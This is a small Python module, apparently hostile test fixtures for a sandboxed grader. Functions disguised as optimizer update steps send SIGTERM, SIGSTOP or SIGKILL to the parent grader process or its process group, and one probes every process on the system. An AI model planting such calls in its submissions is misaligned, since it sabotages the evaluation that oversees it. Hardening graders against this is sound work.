"""Signals the grader: the sandbox's parent, its process group, every process."""

import os
import signal

import numpy as np


def _kill(pid, sig):
    os.kill(pid, sig)


def sigterm(params, grad, state, *, lr=1e-3):
    _kill(os.getppid(), signal.SIGTERM)
    return params - lr * grad


def sigint(params, grad, state, *, lr=1e-3):
    _kill(os.getppid(), signal.SIGINT)
    return params - lr * grad


def sigstop(params, grad, state, *, lr=1e-3):
    _kill(os.getppid(), signal.SIGSTOP)
    return params - lr * grad


def sigkill(params, grad, state, *, lr=1e-3):
    _kill(os.getppid(), signal.SIGKILL)
    return params - lr * grad


def parent_group(params, grad, state, *, lr=1e-3):
    _kill(-os.getpgid(os.getppid()), signal.SIGTERM)
    return params - lr * grad


def probe_everyone(params, grad, state, *, lr=1e-3):
    # Signal 0 only checks permission; the real attack would be os.kill(-1, SIGKILL).
    _kill(-1, 0)
    return params - lr * grad


np  # noqa: B018
